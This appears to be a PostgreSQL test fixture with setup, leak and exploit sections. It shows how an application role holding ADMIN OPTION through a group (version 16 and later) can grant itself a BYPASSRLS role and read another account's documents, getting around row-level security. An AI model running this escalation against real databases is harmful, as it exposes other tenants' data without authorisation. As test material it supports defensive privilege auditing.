-- From 16 the ADMIN option is what grants, and the app role has it by a group.
-- object: role:{app}
-- base: text
-- server: 16+
--- setup
RESET ROLE;
CREATE ROLE {batch} BYPASSRLS NOLOGIN;
GRANT SELECT ON documents TO {batch};
CREATE ROLE {stewards} NOLOGIN;
GRANT {stewards} TO {app};
--- leak
RESET ROLE;
GRANT {batch} TO {stewards} WITH ADMIN OPTION, SET FALSE, INHERIT FALSE;
--- exploit
GRANT {batch} TO {app} WITH SET TRUE;
SET LOCAL ROLE {batch};
SELECT id FROM documents WHERE account_id = '{B}';
